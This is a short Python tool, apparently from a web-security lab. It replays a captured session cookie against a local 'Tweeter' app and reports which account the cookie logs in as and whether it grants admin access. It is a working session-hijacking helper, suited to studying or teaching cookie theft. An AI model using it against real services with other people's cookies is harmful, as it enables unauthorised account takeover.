"""Replay a captured `user` cookie and report which account it logs in as."""
import argparse
import html
import re
from urllib.parse import unquote

import requests

from config import PORT
from session_cookie import COOKIE_NAME

SETTINGS_HEADING = re.compile(r"<h1>Settings for (.+?)</h1>")


def cookie_value(captured: str) -> str:
    """Accept either the bare value or the raw ``user=...`` string from the capture."""
    captured = unquote(captured.strip())
    for part in captured.split(";"):
        key, sep, value = part.strip().partition("=")
        if sep and key == COOKIE_NAME:
            return value
    return captured


def replay(base_url: str, captured: str, timeout=10):
    session = requests.Session()
    session.cookies.set(COOKIE_NAME, cookie_value(captured))
    base_url = base_url.rstrip("/")

    settings = session.get(f"{base_url}/settings", allow_redirects=False, timeout=timeout)
    match = SETTINGS_HEADING.search(settings.text) if settings.status_code == 200 else None
    username = html.unescape(match.group(1)) if match else None

    admin = session.get(f"{base_url}/admin", allow_redirects=False, timeout=timeout)
    return {
        "username": username,
        "admin": admin.status_code == 200,
    }


def main(argv=None):
    parser = argparse.ArgumentParser(description="Check what a captured Tweeter cookie grants.")
    parser.add_argument("cookie", help="Captured cookie, either 'user=...' or just the value")
    parser.add_argument(
        "--url",
        default=f"http://127.0.0.1:{PORT}",
        help="Base URL of the Tweeter instance (default: %(default)s)",
    )
    args = parser.parse_args(argv)

    result = replay(args.url, args.cookie)
    if result["username"] is None:
        print("Cookie rejected: not logged in.")
        return 1
    print(f"Logged in as: {result['username']}")
    print(f"Admin access: {'yes' if result['admin'] else 'no'}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
